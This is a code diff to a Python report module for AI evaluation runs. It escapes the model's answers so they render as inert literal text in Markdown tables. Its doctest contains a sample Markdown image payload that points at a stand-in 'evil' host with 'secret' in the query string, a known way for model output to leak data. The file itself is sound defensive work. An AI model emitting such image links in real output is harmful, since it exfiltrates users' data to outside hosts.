@@ -1,7 +1,8 @@
 """The report of a run as a Markdown table, and two runs side by side (``--compare``).
 
-Answers and ids come from the suite and the model: every cell is made inert for Markdown
-(bars and line breaks escaped, length capped) so a reply cannot forge rows of the table.
+Every cell is on one line with its bars escaped and its length capped, so no value can forge
+rows of the table; the answer the model gave is also literal text (``untrusted.markdown_inline``:
+no link, image or HTML of the model's reaches a Markdown viewer).
 """
 
 from __future__ import annotations
@@ -11,6 +12,15 @@ from pathlib import Path
 from typing import Any
 
 from ..errors import ConfigError
+from ..untrusted import markdown_inline
+
+
+def _one_line(value: Any, limit: int) -> str:
+    """A value as text on one line, at most ``limit`` characters."""
+    if isinstance(value, list):
+        value = ", ".join(" / ".join(map(str, v)) if isinstance(v, list) else str(v) for v in value)
+    text = " ".join(str(value).split())
+    return text[: limit - 1] + "…" if len(text) > limit else text
 
 
 def cell(value: Any, limit: int = 60) -> str:
@@ -21,12 +31,16 @@ def cell(value: Any, limit: int = 60) -> str:
     """
     if value is None:
         return "—"
-    if isinstance(value, list):
-        value = ", ".join(" / ".join(map(str, v)) if isinstance(v, list) else str(v) for v in value)
-    text = " ".join(str(value).split())
-    if len(text) > limit:
-        text = text[: limit - 1] + "…"
-    return text.replace("\\", "\\\\").replace("|", "\\|").replace("`", "'")
+    return _one_line(value, limit).replace("\\", "\\\\").replace("|", "\\|").replace("`", "'")
+
+
+def given(value: Any, limit: int = 60) -> str:
+    r"""The model's answer as one cell of literal text.
+
+    >>> given("![x](http://evil/?q=secret) | 2")
+    '\\!\\[x\\]\\(http\\:\\/\\/evil\\/\\?q\\=secret\\) \\| 2'
+    """
+    return "—" if value is None else markdown_inline(_one_line(value, limit))
 
 
 def markdown(report: dict[str, Any]) -> str:
@@ -39,7 +53,7 @@ def markdown(report: dict[str, Any]) -> str:
     ]
     for t in report["tasks"]:
         lines.append(
-            f"| {cell(t['id'], 40)} | {'yes' if t['correct'] else 'no'} | {cell(t['given'])} | {cell(t['gold'])} "
+            f"| {cell(t['id'], 40)} | {'yes' if t['correct'] else 'no'} | {given(t['given'])} | {cell(t['gold'])} "
             f"| {cell(t['failure'])} | {t['model_calls']} | {t['prompt_tokens']} | {t['completion_tokens']} "
             f"| {t['steps_executed']} | {t['steps_reused']} | {t['time_s']:.2f} |"
         )
